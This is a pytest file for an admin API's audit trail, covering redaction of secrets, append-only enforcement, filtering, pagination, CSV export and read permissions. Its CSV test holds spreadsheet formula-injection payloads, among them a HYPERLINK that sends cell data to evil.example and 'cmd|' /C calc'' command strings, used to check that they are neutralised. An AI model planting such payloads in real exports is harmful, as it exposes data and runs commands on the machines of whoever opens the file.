"""The audit trail: every admin change and every sign-in, with actor, target and what changed (secrets
redacted); append-only in the database; filtered, paged and exported safely."""

from __future__ import annotations

import base64
import csv
import io
import json
import uuid
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from corral.audit.endpoints import CSV_HEADER
from corral.audit.service import REDACTED, redact
from corral.rbac.permissions import P
from corral.rbac.roles import (
    APPLICATION_MANAGER,
    BUILTIN_ROLES,
    GLOBAL_ADMINISTRATOR,
    HELP_DESK_OPERATOR,
    READ_ONLY_OPERATOR,
    BuiltinRole,
)
from tests.conftest import PASSWORD, Admin, Factory, audit_rows, bearer, issue_token, sign_in


# ------------------------------------------------------------------------------------------- every change
@dataclass
class World:
    client: httpx.AsyncClient
    glob: Admin
    other: Admin  # a help desk operator to act upon
    role_id: str
    tag_id: str
    assignment_id: str
    sessionmaker: async_sessionmaker[AsyncSession]

    def h(self, request_id: str) -> dict[str, str]:
        return {**self.glob.headers, "X-Request-ID": request_id}


Change = Callable[[World, str], Awaitable[tuple[httpx.Response, str, str]]]


async def _create_user(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    r = await w.client.post(
        "/api/v1/admins", json={"email": "new@example.com", "display_name": "New"}, headers=w.h(rid)
    )
    return r, "user", r.json()["user"]["id"]


async def _rename_user(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    r = await w.client.patch(
        f"/api/v1/users/{w.other.id}", json={"display_name": "Renamed"}, headers=w.h(rid)
    )
    return r, "user", str(w.other.id)


async def _disable_user(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    r = await w.client.patch(f"/api/v1/users/{w.other.id}", json={"enabled": False}, headers=w.h(rid))
    return r, "user", str(w.other.id)


async def _reset_password(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    r = await w.client.post(f"/api/v1/users/{w.other.id}/password-reset", headers=w.h(rid))
    return r, "user", str(w.other.id)


async def _create_role(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    r = await w.client.post(
        "/api/v1/roles", json={"name": "Syncers", "permissions": ["remote:sync"]}, headers=w.h(rid)
    )
    return r, "role", r.json()["id"]


async def _update_role(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    r = await w.client.patch(f"/api/v1/roles/{w.role_id}", json={"description": "Changed"}, headers=w.h(rid))
    return r, "role", w.role_id


async def _delete_role(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    spare = await w.client.post(
        "/api/v1/roles", json={"name": "Spare", "permissions": ["remote:sync"]}, headers=w.glob.headers
    )
    r = await w.client.delete(f"/api/v1/roles/{spare.json()['id']}", headers=w.h(rid))
    return r, "role", spare.json()["id"]


async def _create_tag(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    r = await w.client.post("/api/v1/scope-tags", json={"name": "Berlin"}, headers=w.h(rid))
    return r, "scope_tag", r.json()["id"]


async def _delete_tag(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    spare = await w.client.post("/api/v1/scope-tags", json={"name": "Spare"}, headers=w.glob.headers)
    r = await w.client.delete(f"/api/v1/scope-tags/{spare.json()['id']}", headers=w.h(rid))
    return r, "scope_tag", spare.json()["id"]


async def _create_assignment(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    r = await w.client.post(
        "/api/v1/role-assignments",
        json={
            "name": "Paris lockers",
            "role_id": w.role_id,
            "member_ids": [str(w.other.id)],
            "scope_all": False,
            "scope_tag_ids": [w.tag_id],
        },
        headers=w.h(rid),
    )
    return r, "role_assignment", r.json()["id"]


async def _set_members(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    r = await w.client.put(
        f"/api/v1/role-assignments/{w.assignment_id}/members",
        json={"member_ids": [str(w.other.id), str(w.glob.id)]},
        headers=w.h(rid),
    )
    return r, "role_assignment", w.assignment_id


async def _delete_assignment(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    r = await w.client.delete(f"/api/v1/role-assignments/{w.assignment_id}", headers=w.h(rid))
    return r, "role_assignment", w.assignment_id


async def _update_settings(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    r = await w.client.patch(
        "/api/v1/settings",
        json={"organization_name": "Contoso", "support_url": "https://help.contoso.example"},
        headers=w.h(rid),
    )
    return r, "tenant_settings", "1"


async def _revoke_token(w: World, rid: str) -> tuple[httpx.Response, str, str]:
    spare = await issue_token(w.sessionmaker, w.glob.id, name="spare")
    me = await w.client.get("/api/v1/api-tokens", headers=bearer(spare))
    (spare_row,) = [t for t in me.json() if t["name"] == "spare"]
    r = await w.client.delete(f"/api/v1/api-tokens/{spare_row['id']}", headers=w.h(rid))
    return r, "api_token", spare_row["id"]


CHANGES: list[tuple[str, Change, str]] = [
    ("user.create", _create_user, "email"),
    ("user.update", _rename_user, "display_name"),
    ("user.update", _disable_user, "enabled"),
    ("user.password_reset", _reset_password, "password"),
    ("role.create", _create_role, "permissions"),
    ("role.update", _update_role, "description"),
    ("role.delete", _delete_role, "permissions"),
    ("scope_tag.create", _create_tag, "name"),
    ("scope_tag.delete", _delete_tag, ""),
    ("role_assignment.create", _create_assignment, "scope"),
    ("role_assignment.update", _set_members, "members"),
    ("role_assignment.delete", _delete_assignment, "members"),
    ("settings.update", _update_settings, "support_url"),
    ("api_token.revoke", _revoke_token, "revoked_at"),
]


@pytest.fixture
async def world(
    client: httpx.AsyncClient, factory: Factory, sessionmaker: async_sessionmaker[AsyncSession]
) -> World:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    other = await factory.admin(HELP_DESK_OPERATOR.name)
    role = await client.post(
        "/api/v1/roles", json={"name": "Lockers", "permissions": ["remote:lock"]}, headers=glob.headers
    )
    tag = await client.post("/api/v1/scope-tags", json={"name": "Paris"}, headers=glob.headers)
    assignment = await client.post(
        "/api/v1/role-assignments",
        json={"name": "Lockers everywhere", "role_id": role.json()["id"], "member_ids": [str(other.id)]},
        headers=glob.headers,
    )
    assert assignment.status_code == 201, assignment.text
    return World(
        client, glob, other, role.json()["id"], tag.json()["id"], assignment.json()["id"], sessionmaker
    )


@pytest.mark.parametrize(
    ("activity", "change", "property_name"), CHANGES, ids=[c[1].__name__[1:] for c in CHANGES]
)
async def test_admin_change_is_audited_with_actor_target_and_changes(
    world: World, activity: str, change: Change, property_name: str
) -> None:
    request_id = f"req-{uuid.uuid4().hex}"
    response, target_type, target_id = await change(world, request_id)
    assert response.status_code < 300, response.text

    events = await audit_rows(world.sessionmaker, correlation_id=request_id)
    assert [e.activity for e in events] == [activity]
    (event,) = events
    assert event.result == "success"
    assert event.actor_type == "token"
    assert event.actor_id == world.glob.id
    assert event.actor_name == world.glob.email
    assert event.actor_token_id is not None
    assert event.target_type == target_type
    assert event.target_id == target_id
    assert event.target_name
    assert event.ip_address == "203.0.113.7"
    if property_name:
        names = [p["name"] for p in event.modified_properties]
        assert property_name in names, event.modified_properties
        for prop in event.modified_properties:
            assert prop["old"] != prop["new"] or prop["new"] == REDACTED


async def test_change_that_changes_nothing_records_nothing(world: World) -> None:
    request_id = f"req-{uuid.uuid4().hex}"
    response = await world.client.patch(
        f"/api/v1/roles/{world.role_id}", json={"name": "Lockers"}, headers=world.h(request_id)
    )
    assert response.status_code == 200
    assert await audit_rows(world.sessionmaker, correlation_id=request_id) == []


async def test_failed_change_records_no_success_event(world: World) -> None:
    request_id = f"req-{uuid.uuid4().hex}"
    response = await world.client.post(
        "/api/v1/roles", json={"name": "lockers", "permissions": ["remote:lock"]}, headers=world.h(request_id)
    )
    assert response.status_code == 409
    assert await audit_rows(world.sessionmaker, correlation_id=request_id) == []


async def test_creating_a_user_with_a_role_records_the_assignment_too(world: World) -> None:
    request_id = f"req-{uuid.uuid4().hex}"
    response = await world.client.post(
        "/api/v1/admins",
        json={"email": "lock@example.com", "role_id": world.role_id},
        headers=world.h(request_id),
    )
    assert response.status_code == 201
    events = await audit_rows(world.sessionmaker, correlation_id=request_id)
    assert [e.activity for e in events] == ["user.create", "role_assignment.create"]
    props = {p["name"]: p["new"] for p in events[1].modified_properties}
    assert props == {"role": "Lockers", "members": ["lock@example.com"], "scope": "all"}


async def test_user_password_is_redacted_in_the_audit_trail(
    client: httpx.AsyncClient, factory: Factory, sessionmaker: async_sessionmaker[AsyncSession]
) -> None:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    secret = "Sup3r-secret-passphrase-41"
    response = await client.post(
        "/api/v1/admins", json={"email": "pw@example.com", "password": secret}, headers=glob.headers
    )
    assert response.status_code == 201, response.text
    assert response.json()["one_time_password"] is None
    assert secret not in response.text

    (event,) = await audit_rows(sessionmaker, activity="user.create", target_name="pw@example.com")
    props = {p["name"]: p for p in event.modified_properties}
    assert props["password"] == {"name": "password", "old": None, "new": REDACTED}
    listed = await client.get(
        "/api/v1/audit-events", params={"activity": "user.create"}, headers=glob.headers
    )
    assert REDACTED in listed.text and secret not in listed.text
    exported = await client.get("/api/v1/audit-events/export.csv", headers=glob.headers)
    assert secret not in exported.text
    async with sessionmaker() as session:
        dump = await session.scalar(text("SELECT string_agg(row_to_json(a)::text, '') FROM audit_events a"))
    assert secret not in (dump or "")


async def test_one_time_password_of_a_reset_is_not_audited(
    client: httpx.AsyncClient, factory: Factory, sessionmaker: async_sessionmaker[AsyncSession]
) -> None:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    helpdesk = await factory.admin(HELP_DESK_OPERATOR.name)
    reset = await client.post(f"/api/v1/users/{helpdesk.id}/password-reset", headers=glob.headers)
    one_time = reset.json()["one_time_password"]
    (event,) = await audit_rows(sessionmaker, activity="user.password_reset")
    assert one_time not in json.dumps(event.modified_properties) + (event.detail or "")
    assert {"name": "password", "old": REDACTED, "new": REDACTED} in event.modified_properties


@pytest.mark.parametrize(
    "name",
    ["password", "new_password", "client_secret", "api_token", "private_key", "totp_seed", "credential"],
)
def test_secret_looking_properties_are_redacted(name: str) -> None:
    (prop,) = redact([(name, "old-value", "new-value")])
    assert prop == {"name": name, "old": REDACTED, "new": REDACTED}


def test_ordinary_properties_are_kept_and_made_json_safe() -> None:
    tag_id = uuid.uuid4()
    (prop,) = redact([("scope_tags", None, {tag_id})])
    assert prop == {"name": "scope_tags", "old": None, "new": [str(tag_id)]}


# ------------------------------------------------------------------------------------------- sign-ins
async def test_failed_sign_in_is_audited_as_failure(
    client: httpx.AsyncClient, factory: Factory, sessionmaker: async_sessionmaker[AsyncSession]
) -> None:
    admin = await factory.admin(HELP_DESK_OPERATOR.name, token=False)
    wrong = "not-the-password-at-all"
    response = await sign_in(client, admin.email, wrong)
    assert response.status_code == 401, response.text
    (event,) = await audit_rows(sessionmaker, activity="signin")
    assert event.result == "failure"
    assert event.category == "authentication"
    assert (event.actor_type, event.actor_name) == ("anonymous", None)  # the caller is not known
    assert event.target_type == "user" and event.target_id == str(admin.id)
    assert event.target_name == admin.email  # the account's own name, as the server knows it
    assert event.detail == "/portal/sign-in: wrong password"
    assert event.ip_address == "203.0.113.7"
    assert wrong not in json.dumps(event.modified_properties) + (event.detail or "")


async def test_sign_in_to_unknown_account_is_audited_without_the_typed_name(
    client: httpx.AsyncClient, sessionmaker: async_sessionmaker[AsyncSession]
) -> None:
    response = await sign_in(client, "nobody-typed-this@example.com", "whatever-password")
    assert response.status_code == 401
    (event,) = await audit_rows(sessionmaker, activity="signin")
    assert (event.result, event.target_id, event.target_name, event.actor_name) == (
        "failure",
        None,
        None,
        None,
    )
    assert event.detail == "/portal/sign-in: no account has this sign-in name"
    assert "nobody-typed-this" not in repr(vars(event))


async def test_failed_sign_ins_cannot_flood_the_audit_log(
    client: httpx.AsyncClient, factory: Factory, sessionmaker: async_sessionmaker[AsyncSession]
) -> None:
    """Anyone can fail to sign in: 60 attempts with made-up names (each a new one) and 30 wrong passwords on
    one account from one address write one row per kind, then summaries with their counts — never a row each,
    never a typed name."""
    admin = await factory.admin(HELP_DESK_OPERATOR.name, token=False)
    for n in range(60):
        response = await sign_in(client, f"guess-{n}-attacker-text@example.com", "x" * 12)
        assert response.status_code in (401, 429)
    for _ in range(30):
        assert (await sign_in(client, admin.email, "wrong password!")).status_code in (401, 429)
    rows = await audit_rows(sessionmaker, activity="signin")
    assert len(rows) <= 3, [r.detail for r in rows]  # unknown account, wrong password, throttled
    assert not any("attacker-text" in repr(vars(r)) for r in rows)
    await client._transport.app.state.refusals.flush()  # type: ignore[attr-defined]
    rows = await audit_rows(sessionmaker, activity="signin")
    # Each attempt is in exactly one row: a first one, or a summary's count.
    assert sum(r.modified_properties[0]["new"] if r.modified_properties else 1 for r in rows) == 90
    assert len(rows) <= 6
    assert {r.target_name for r in rows} == {None, admin.email}
    assert not any("attacker-text" in repr(vars(r)) for r in rows)


async def test_successful_sign_in_is_audited(
    client: httpx.AsyncClient, factory: Factory, sessionmaker: async_sessionmaker[AsyncSession]
) -> None:
    admin = await factory.admin(HELP_DESK_OPERATOR.name, token=False)
    response = await sign_in(client, admin.email, PASSWORD)
    assert response.status_code == 303
    (event,) = await audit_rows(sessionmaker, activity="signin")
    assert event.result == "success"
    assert event.actor_type == "user" and event.actor_id == admin.id


async def test_failed_sign_ins_are_listed_by_the_api(client: httpx.AsyncClient, factory: Factory) -> None:
    admin = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    await sign_in(client, admin.email, "wrong-password-1")
    await sign_in(client, admin.email, "wrong-password-2")
    await sign_in(client, admin.email, "wrong-password-3")
    client.cookies.clear()
    await client._transport.app.state.refusals.flush()  # type: ignore[attr-defined]
    page = await client.get(
        "/api/v1/audit-events", params={"activity": "signin", "result": "failure"}, headers=admin.headers
    )
    assert page.status_code == 200
    items = page.json()["items"]
    assert len(items) == 2  # the first at once, then a summary of the two that followed
    assert all(i["result"] == "failure" and i["target_name"] == admin.email for i in items)
    assert sorted(i["detail"].split(" ")[0] for i in items) == ["/portal/sign-in:", "2"]


# ------------------------------------------------------------------------------------------- append-only
@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE audit_events SET activity = 'nothing.happened'",
        "UPDATE audit_events SET result = 'success' WHERE result = 'failure'",
        "DELETE FROM audit_events",
        "TRUNCATE audit_events",
    ],
)
async def test_audit_table_is_append_only(
    factory: Factory, sessionmaker: async_sessionmaker[AsyncSession], statement: str
) -> None:
    await factory.admin(GLOBAL_ADMINISTRATOR.name)
    before = [(e.seq, e.activity, e.result) for e in await audit_rows(sessionmaker)]
    assert before
    async with sessionmaker() as session:
        with pytest.raises(DBAPIError, match="append-only"):
            await session.execute(text(statement))
        await session.rollback()
    assert [(e.seq, e.activity, e.result) for e in await audit_rows(sessionmaker)] == before


# ------------------------------------------------------------------------------------ filters and pages
async def _make_history(client: httpx.AsyncClient, glob: Admin, count: int) -> None:
    for i in range(count):
        r = await client.post("/api/v1/scope-tags", json={"name": f"Tag {i}"}, headers=glob.headers)
        assert r.status_code == 201


async def test_filter_by_activity(client: httpx.AsyncClient, factory: Factory) -> None:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    await _make_history(client, glob, 3)
    await client.post(
        "/api/v1/roles", json={"name": "R", "permissions": ["remote:sync"]}, headers=glob.headers
    )
    items = (
        await client.get(
            "/api/v1/audit-events", params={"activity": "scope_tag.create"}, headers=glob.headers
        )
    ).json()["items"]
    assert len(items) == 3
    assert {i["activity"] for i in items} == {"scope_tag.create"}


async def test_filter_by_actor_is_a_case_insensitive_substring(
    client: httpx.AsyncClient, factory: Factory
) -> None:
    first = await factory.admin(GLOBAL_ADMINISTRATOR.name, email="first.admin@example.com")
    second = await factory.admin(GLOBAL_ADMINISTRATOR.name, email="second.admin@example.com")
    await _make_history(client, first, 2)
    await client.post("/api/v1/scope-tags", json={"name": "Second's"}, headers=second.headers)
    items = (
        await client.get("/api/v1/audit-events", params={"actor": "FIRST.ADMIN"}, headers=first.headers)
    ).json()["items"]
    assert len(items) == 2
    assert {i["actor_name"] for i in items} == {first.email}


async def test_filter_by_actor_treats_wildcards_literally(
    client: httpx.AsyncClient, factory: Factory
) -> None:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    await _make_history(client, glob, 1)
    for pattern in ("%", "_"):
        items = (
            await client.get("/api/v1/audit-events", params={"actor": pattern}, headers=glob.headers)
        ).json()["items"]
        assert items == [], pattern


async def test_filter_by_result(client: httpx.AsyncClient, factory: Factory) -> None:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    helpdesk = await factory.admin(HELP_DESK_OPERATOR.name)
    await _make_history(client, glob, 1)
    assert (
        await client.post("/api/v1/scope-tags", json={"name": "No"}, headers=helpdesk.headers)
    ).status_code == 403
    failures = (
        await client.get("/api/v1/audit-events", params={"result": "failure"}, headers=glob.headers)
    ).json()["items"]
    assert [(i["activity"], i["actor_name"]) for i in failures] == [("access.denied", helpdesk.email)]
    successes = (
        await client.get("/api/v1/audit-events", params={"result": "success"}, headers=glob.headers)
    ).json()["items"]
    assert successes and all(i["result"] == "success" for i in successes)
    bad = await client.get("/api/v1/audit-events", params={"result": "maybe"}, headers=glob.headers)
    assert bad.status_code == 422


async def test_filter_by_time_window(client: httpx.AsyncClient, factory: Factory) -> None:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    await _make_history(client, glob, 3)
    everything = (
        await client.get(
            "/api/v1/audit-events", params={"activity": "scope_tag.create"}, headers=glob.headers
        )
    ).json()["items"]
    newest, middle, oldest = everything
    assert newest["occurred_at"] > middle["occurred_at"] > oldest["occurred_at"]

    since = (
        await client.get(
            "/api/v1/audit-events",
            params={"activity": "scope_tag.create", "since": middle["occurred_at"]},
            headers=glob.headers,
        )
    ).json()["items"]
    assert [i["id"] for i in since] == [newest["id"], middle["id"]]
    until = (
        await client.get(
            "/api/v1/audit-events",
            params={"activity": "scope_tag.create", "until": middle["occurred_at"]},
            headers=glob.headers,
        )
    ).json()["items"]
    assert [i["id"] for i in until] == [oldest["id"]]
    window = (
        await client.get(
            "/api/v1/audit-events",
            params={
                "since": middle["occurred_at"],
                "until": newest["occurred_at"],
                "activity": "scope_tag.create",
            },
            headers=glob.headers,
        )
    ).json()["items"]
    assert [i["id"] for i in window] == [middle["id"]]


async def test_keyset_pagination_walks_every_event_once(client: httpx.AsyncClient, factory: Factory) -> None:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    await _make_history(client, glob, 5)
    everything = (
        await client.get("/api/v1/audit-events", params={"limit": 500}, headers=glob.headers)
    ).json()
    assert everything["next_cursor"] is None
    all_ids = [i["id"] for i in everything["items"]]
    assert len(all_ids) >= 6

    seen: list[str] = []
    cursor = None
    pages = 0
    while True:
        params: dict[str, Any] = {"limit": 2}
        if cursor:
            params["cursor"] = cursor
        page = (await client.get("/api/v1/audit-events", params=params, headers=glob.headers)).json()
        assert 1 <= len(page["items"]) <= 2
        seen.extend(i["id"] for i in page["items"])
        pages += 1
        cursor = page["next_cursor"]
        if cursor is None:
            break
        assert pages < 20
    assert len(seen) == len(set(seen)), "pages overlap"
    assert seen == all_ids
    assert pages == -(-len(all_ids) // 2)


async def test_pagination_is_stable_when_events_arrive_between_pages(
    client: httpx.AsyncClient, factory: Factory
) -> None:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    await _make_history(client, glob, 3)
    first = (await client.get("/api/v1/audit-events", params={"limit": 2}, headers=glob.headers)).json()
    await _make_history_more(client, glob)
    second = (
        await client.get(
            "/api/v1/audit-events", params={"limit": 2, "cursor": first["next_cursor"]}, headers=glob.headers
        )
    ).json()
    first_ids = {i["id"] for i in first["items"]}
    assert not first_ids & {i["id"] for i in second["items"]}
    assert all(i["activity"] != "role.create" for i in second["items"])


async def _make_history_more(client: httpx.AsyncClient, glob: Admin) -> None:
    r = await client.post(
        "/api/v1/roles", json={"name": "Late", "permissions": ["remote:sync"]}, headers=glob.headers
    )
    assert r.status_code == 201


def _cursor(value: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    "cursor",
    [
        "!!!",
        "a",
        "%%%%",
        _cursor({"seq": 1}),
        _cursor("12"),
        _cursor([]),
        _cursor(["x"]),
        _cursor([None]),
        _cursor([1.5]),
        _cursor([True]),
        _cursor([-1]),
        _cursor([2**63]),
        _cursor([10**30]),
        _cursor([1, 2]),
    ],
    ids=[
        "punctuation",
        "short",
        "percent",
        "object",
        "string",
        "empty-list",
        "text-seq",
        "null-seq",
        "float-seq",
        "bool-seq",
        "negative-seq",
        "bigint-overflow",
        "huge-seq",
        "two-values",
    ],
)
async def test_malformed_cursor_is_a_bad_request(
    client: httpx.AsyncClient, factory: Factory, cursor: str
) -> None:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    response = await client.get(
        "/api/v1/audit-events", params={"cursor": cursor, "limit": 2}, headers=glob.headers
    )
    assert response.status_code == 400, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert "cursor" in response.json()["detail"]


# ------------------------------------------------------------------------------------------- CSV export
def _csv(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


async def test_csv_export_has_the_header_and_one_row_per_event(
    client: httpx.AsyncClient, factory: Factory
) -> None:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    await _make_history(client, glob, 2)
    response = await client.get(
        "/api/v1/audit-events/export.csv", params={"activity": "scope_tag.create"}, headers=glob.headers
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = _csv(response.text)
    assert rows[0] == CSV_HEADER
    assert len(rows) == 3
    activity = CSV_HEADER.index("activity")
    assert {r[activity] for r in rows[1:]} == {"scope_tag.create"}


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab"],
)
async def test_csv_export_neutralises_formula_injection(
    client: httpx.AsyncClient, factory: Factory, name: str
) -> None:
    glob = await factory.admin(GLOBAL_ADMINISTRATOR.name)
    created = await client.post(
        "/api/v1/roles", json={"name": name, "permissions": ["remote:sync"]}, headers=glob.headers
    )
    assert created.status_code == 201, created.text
    stored = created.json()["name"]
    response = await client.get(
        "/api/v1/audit-events/export.csv", params={"activity": "role.create"}, headers=glob.headers
    )
    (row,) = _csv(response.text)[1:]
    assert row[CSV_HEADER.index("target")] == "'" + stored
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# ------------------------------------------------------------------------------------------- who may read
@pytest.mark.parametrize("role", BUILTIN_ROLES, ids=lambda r: r.name)
async def test_audit_log_is_readable_exactly_by_roles_holding_audit_read(
    client: httpx.AsyncClient, factory: Factory, role: BuiltinRole
) -> None:
    admin = await factory.admin(role.name)
    expected = 200 if P.audit_read in role.permissions else 403
    assert (await client.get("/api/v1/audit-events", headers=admin.headers)).status_code == expected
    assert (
        await client.get("/api/v1/audit-events/export.csv", headers=admin.headers)
    ).status_code == expected


async def test_helpdesk_can_read_the_audit_log(client: httpx.AsyncClient, factory: Factory) -> None:
    assert P.audit_read in HELP_DESK_OPERATOR.permissions
    helpdesk = await factory.admin(HELP_DESK_OPERATOR.name)
    assert (await client.get("/api/v1/audit-events", headers=helpdesk.headers)).status_code == 200


async def test_read_only_operator_can_read_the_audit_log(client: httpx.AsyncClient, factory: Factory) -> None:
    assert P.audit_read in READ_ONLY_OPERATOR.permissions
    reader = await factory.admin(READ_ONLY_OPERATOR.name)
    assert (await client.get("/api/v1/audit-events", headers=reader.headers)).status_code == 200


async def test_application_manager_cannot_read_the_audit_log(
    client: httpx.AsyncClient, factory: Factory
) -> None:
    assert P.audit_read not in APPLICATION_MANAGER.permissions
    apps = await factory.admin(APPLICATION_MANAGER.name)
    response = await client.get("/api/v1/audit-events", headers=apps.headers)
    assert response.status_code == 403
    assert "audit:read" in response.json()["detail"]
